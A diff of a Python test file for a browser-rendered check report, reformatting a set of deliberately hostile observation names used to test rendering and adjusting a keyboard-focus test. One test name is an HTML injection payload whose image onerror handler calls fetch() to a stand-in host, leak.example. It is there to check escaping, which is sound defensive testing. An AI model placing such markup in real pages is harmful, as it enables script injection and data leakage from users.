@@ -42,7 +42,12 @@ def content(document: Document) -> bytes:
 def hostile(document: Document) -> bytes:
     """Names that are long, wide, high, reversed or markup."""
     changed = copy.deepcopy(document)
-    names = ("/" + "x" * 4090, "/" + ESCAPING, "/" + "\u0645\u0631\u062d\u0628\u0627", "/" + "z\u0352\u0360" * 200)
+    names: tuple[str, ...] = (
+        "/" + "x" * 4090,
+        "/" + ESCAPING,
+        "/" + "\u0645\u0631\u062d\u0628\u0627",
+        "/" + "z\u0352\u0360" * 200,
+    )
     names += ('/"><img src=http://leak.example/a.png onerror=fetch("http://leak.example/b")>', "/" + "W" * 300)
     seen = changed["checks"][0]["observations"][0]
     changed["checks"][0]["observations"] = [
@@ -210,7 +215,7 @@ def test_the_keyboard_reaches_and_works_everything(browser: Browser, content: by
         page.press("Tab")
         assert page.evaluate("document.activeElement.offsetParent !== null"), "the focus is on something unseen"
         reached.append(focused(page))
-        if "No command shell" in reached[-1] and reached[-1].startswith("×"):
+        if page.evaluate("document.activeElement.parentElement.id === 'check-SP-SECRET'"):
             break
     order = [name for name in reached if name in ("search", "framework", "trait", "reset", "unfold", "fold")]
     assert order == ["search", "framework", "trait", "reset", "unfold", "fold"]
